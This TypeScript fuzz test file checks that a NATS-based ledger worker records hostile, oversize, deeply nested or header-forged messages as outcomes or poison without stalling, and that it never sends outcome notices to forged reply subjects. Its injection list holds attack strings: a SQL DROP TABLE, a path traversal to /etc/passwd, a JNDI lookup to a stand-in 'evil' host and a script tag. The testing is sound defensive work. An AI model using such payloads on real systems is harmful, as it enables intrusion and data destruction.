import { randomUUID } from 'node:crypto';
import { headers as natsHeaders } from '@nats-io/transport-node';
import { jetstream, jetstreamManager } from '@nats-io/jetstream';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifyLedger } from '../../src/journal/verify.js';
import { COMMAND_ID, ledgerProcesses, partitionOf } from '../../src/ledger/index.js';
import { LedgerPublisher } from '../../src/sdk/publisher.js';
import { HEADER, names } from '../../src/shards/names.js';
import { PARTITIONS, startApiStack, type ApiStack } from '../support/api.js';
import { checkProperty, propertyTestTimeoutMs } from '../support/fast-check.js';
import { waitFor } from '../support/wait.js';

/**
 * Hostile input on every NATS subject a worker reads (issue 8): the command subject of every
 * partition gets random bytes, bodies over the size limit, JSON bombs nested far deeper than any
 * command, envelopes with wrong types and injection strings, members of other partitions, and forged
 * headers (a message id that is not the commandId, a reply subject of someone else's); the outcome
 * look-up subject gets random requests. Afterwards every stored message is accounted for, as a
 * recorded outcome (a rejection, mostly) or a recorded poison message; no partition is stalled (each
 * applies a valid command at once); the worker's heap has not grown without bound; `verify` passes.
 */
let stack: ApiStack;
beforeAll(async () => {
  stack = await startApiStack('natsfuzz');
});
afterAll(async () => {
  await stack?.stop();
});

const INJECTIONS = [
  "'; DROP TABLE movements; --",
  'x\u0000y',
  '../../../../etc/passwd',
  '${jndi:ldap://evil/a}',
  '<script>alert(1)</script>',
  '\u202e\u0301',
  'pool-X',
  '9'.repeat(400),
];
const injection = fc.oneof(fc.constantFrom(...INJECTIONS), fc.string({ maxLength: 40 }), fc.stringMatching(/^[A-Za-z0-9_-]{1,20}$/));

type Hostile = { readonly body: Uint8Array; readonly commandId?: string; readonly msgId?: string; readonly reply?: string; readonly partition: number };

const partition = fc.integer({ min: 0, max: PARTITIONS - 1 });
const text = (value: string) => new TextEncoder().encode(value);

/** An envelope as a publisher would send it, with any of its parts replaced by something hostile. */
const envelope = fc
  .record({
    commandId: fc.oneof(fc.uuid(), injection),
    process: fc.oneof(fc.constantFrom(...ledgerProcesses.list().map((p) => p.name)), injection),
    memberId: fc.oneof(fc.stringMatching(/^FZ-[0-9]{1,3}$/), injection),
    potId: fc.oneof(fc.stringMatching(/^FZ-[0-9]{1,3}-pot$/), injection),
    payload: fc.oneof(fc.jsonValue({ maxDepth: 4 }), fc.record({
      amount: fc.oneof(injection, fc.constant('1.00'), fc.double().map(String)),
      currency: fc.oneof(injection, fc.constant('GBP')),
    })),
    effectiveDate: fc.oneof(fc.constant('2026-11-23'), injection),
    producedAt: fc.oneof(fc.constant('2026-11-23T09:00:00Z'), injection),
    forgeMsgId: fc.boolean(),
    forgeReply: fc.oneof(fc.constant(undefined), fc.constant('wrong'), injection),
    rightPartition: fc.boolean(),
  })
  .chain((e) =>
    partition.map((random): Hostile => {
      const { forgeMsgId, forgeReply, rightPartition, ...command } = e;
      const home = /^[A-Za-z0-9_-]{1,64}$/.test(command.memberId) ? partitionOf(command.memberId, PARTITIONS) : random;
      return {
        body: text(JSON.stringify(command)),
        commandId: command.commandId,
        msgId: forgeMsgId ? `${command.commandId}-forged` : command.commandId,
        ...(forgeReply === undefined ? {} : { reply: forgeReply }),
        partition: rightPartition ? home : random,
      };
    }),
  );

const hostile: fc.Arbitrary<Hostile> = fc.oneof(
  fc.record({ body: fc.uint8Array({ maxLength: 2048 }), partition }),
  fc.record({ body: fc.integer({ min: 64 * 1024 + 1, max: 300_000 }).map((n) => new Uint8Array(n).fill(0x5b)), partition }),
  fc.record({ body: fc.integer({ min: 33, max: 30_000 }).map((depth) => text(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`)), partition }),
  fc.record({ body: fc.integer({ min: 33, max: 32_000 }).map((depth) => text(`${'['.repeat(depth)}${']'.repeat(depth)}`)), partition }),
  envelope,
);

describe('hostile messages on the NATS subjects a worker reads', () => {
  it('are each recorded as an outcome or as poison, and stall nothing', async () => {
    const js = jetstream(stack.nats.nc);
    const jsm = await jetstreamManager(stack.nats.nc);
    const subjects = names(stack.nats.prefix);
    const heapBefore = process.memoryUsage().heapUsed;
    const stored: { partition: number; seq: number; commandId: string | undefined }[] = [];
    await checkProperty(
      'nats: hostile commands are recorded, never lost or stalling',
      fc.asyncProperty(fc.array(hostile, { minLength: 1, maxLength: 12 }), fc.array(fc.uint8Array({ maxLength: 512 }), { maxLength: 3 }), async (messages, lookups) => {
        for (const message of messages) {
          const headers = natsHeaders();
          if (message.reply !== undefined) headers.set(HEADER.reply, message.reply.replace(/[\r\n]/g, ' '));
          const ack = await js.publish(subjects.commandSubject(message.partition), message.body, {
            headers,
            ...(message.msgId === undefined ? {} : { msgID: message.msgId.replace(/[\r\n]/g, ' ') }),
          });
          if (!ack.duplicate) stored.push({ partition: message.partition, seq: ack.seq, commandId: message.commandId });
        }
        for (const request of lookups) {
          // Any answer, or none, but the worker keeps answering (checked below with a real look-up).
          await stack.nats.nc.request(subjects.outcomeLookupSubject, request, { timeout: 2000 }).catch(() => undefined);
        }
      }),
      { numRuns: 40 },
    );
    expect(stored.length).toBeGreaterThan(0);

    // Every partition consumer has taken and acknowledged all it was given.
    const stream = subjects.commandStream;
    const lastSeq = Math.max(...stored.map((s) => s.seq));
    await waitFor(
      'every partition consumer done with the hostile messages',
      async () => {
        const consumers = await jsm.consumers.list(stream).next();
        const done =
          consumers.length >= PARTITIONS &&
          consumers.every((c) => c.num_pending === 0 && c.num_ack_pending === 0) &&
          consumers.some((c) => c.delivered.stream_seq >= lastSeq);
        return done ? true : undefined;
      },
      { timeoutMs: 60_000 },
    );

    // Each stored message is a recorded outcome (its commandId) or a recorded poison message (its place in the stream).
    const poison = await stack.db.owner.query<{ stream_seq: string; code: string }>('SELECT stream_seq::text, code FROM poison_messages');
    const poisoned = new Set(poison.rows.map((row) => Number(row.stream_seq)));
    // Only a well-formed commandId can have an outcome (and Postgres takes no NUL in a query parameter).
    const ids = stored.flatMap((s) => (s.commandId !== undefined && COMMAND_ID.test(s.commandId) ? [s.commandId] : []));
    const outcomes = await stack.db.owner.query<{ command_id: string }>('SELECT command_id FROM command_outcomes WHERE command_id = ANY($1::text[])', [ids]);
    const answered = new Set(outcomes.rows.map((row) => row.command_id));
    const unaccounted = stored.filter((s) => !poisoned.has(s.seq) && (s.commandId === undefined || !answered.has(s.commandId)));
    expect(unaccounted).toEqual([]);
    expect(poison.rows.some((row) => row.code === 'SHARD_ERR_TOO_DEEP')).toBe(true);
    expect(poison.rows.some((row) => row.code === 'SHARD_ERR_OVERSIZE')).toBe(true);
    expect(poison.rows.every((row) => row.code !== 'SHARD_ERR_UNREADABLE')).toBe(true);

    // No partition is stalled: a valid command on each applies at once, and look-ups are answered.
    const publisher = await LedgerPublisher.connect({ nc: stack.nats.nc, prefix: stack.nats.prefix, registry: ledgerProcesses, partitionCount: PARTITIONS });
    const members: string[] = [];
    for (let i = 0; members.length < PARTITIONS; i += 1) if (!members.some((m) => partitionOf(m, PARTITIONS) === partitionOf(`OK-${i}`, PARTITIONS))) members.push(`OK-${i}`);
    for (const member of members) {
      const sent = await publisher.submit('pot.open', { commandId: `ok-open-${member}`, memberId: member, potId: `${member}-pot`, payload: {} });
      expect((await sent.outcome(20_000)).outcome).toMatchObject({ kind: 'applied' });
    }
    expect(await publisher.lookup(`ok-open-${members[0] ?? ''}`)).toMatchObject({ known: true });
    await publisher.close();

    // Bounded: the worker and the test together did not keep what they read (a coarse bound on the heap).
    global.gc?.();
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(200 * 1024 * 1024);
    expect((await verifyLedger(stack.db.owner)).checks.filter((check) => !check.ok)).toEqual([]);
  }, propertyTestTimeoutMs(300_000));

  it("publishes an outcome notice only to a publisher's reply subject, never to one a forged header names", async () => {
    const js = jetstream(stack.nats.nc);
    const jsm = await jetstreamManager(stack.nats.nc);
    const subjects = names(stack.nats.prefix);
    const member = 'REPLY-1';
    const home = partitionOf(member, PARTITIONS);
    const target = (home + 1) % PARTITIONS;
    const forged = [
      subjects.commandSubject(target),
      subjects.eventSubject(target),
      `${stack.nats.prefix}.custodian.instruction`,
      `${stack.nats.prefix}.reply.>`,
      `${stack.nats.prefix}.reply.x *`,
    ];
    // A plain subscriber on every forged subject sees whatever the worker would publish there.
    const seen: string[] = [];
    const watches = forged.map((subject) => stack.nats.nc.subscribe(subject.replace(/ \*$/, ''), { callback: (_error, message) => { seen.push(message.subject); } }));
    const before = (await jsm.streams.info(subjects.commandStream)).state.messages;
    for (const [index, reply] of forged.entries()) {
      const commandId = `forged-reply-${index}`;
      const command = {
        commandId,
        process: 'pot.open',
        memberId: member,
        potId: `${member}-pot-${index}`,
        payload: {},
        effectiveDate: '2026-11-23',
        producedAt: '2026-11-23T09:00:00Z',
      };
      const headers = natsHeaders();
      headers.set(HEADER.reply, reply);
      await js.publish(subjects.commandSubject(home), text(JSON.stringify(command)), { headers, msgID: commandId });
    }
    const ids = forged.map((_, index) => `forged-reply-${index}`);
    await waitFor('the forged commands applied', async () => {
      const { rows } = await stack.db.owner.query<{ n: string }>('SELECT count(*)::text AS n FROM command_outcomes WHERE command_id = ANY($1::text[])', [ids]);
      return rows[0]?.n === String(ids.length) ? true : undefined;
    }, { timeoutMs: 20_000 });
    // A sentinel: one more command of the same partition, with a reply subject of its own on this
    // connection. The worker notifies in stream order on one connection, so once the sentinel's notice is
    // here, any notice sent to a forged subject before it would be here too.
    const sentinelReply = `_INBOX.sentinel-${randomUUID()}`;
    const sentinelNotices: unknown[] = [];
    const sentinelWatch = stack.nats.nc.subscribe(sentinelReply, { callback: (_error, message) => { sentinelNotices.push(message.json()); } });
    await stack.nats.nc.flush();
    const sentinel = {
      commandId: 'forged-reply-sentinel',
      process: 'pot.open',
      memberId: member,
      potId: `${member}-pot-sentinel`,
      payload: {},
      effectiveDate: '2026-11-23',
      producedAt: '2026-11-23T09:00:00Z',
    };
    const sentinelHeaders = natsHeaders();
    sentinelHeaders.set(HEADER.reply, sentinelReply);
    await js.publish(subjects.commandSubject(home), text(JSON.stringify(sentinel)), { headers: sentinelHeaders, msgID: sentinel.commandId });
    await waitFor('the outcome notice of the sentinel command', () => sentinelNotices.length > 0, { timeoutMs: 20_000 });
    sentinelWatch.unsubscribe();
    for (const watch of watches) watch.unsubscribe();
    expect(sentinelNotices).toMatchObject([{ commandId: sentinel.commandId, status: 'answered' }]);
    expect(seen).toEqual([]);
    // The command stream holds the five commands and the sentinel, and nothing the worker added.
    expect((await jsm.streams.info(subjects.commandStream)).state.messages).toBe(before + forged.length + 1);
  });
});
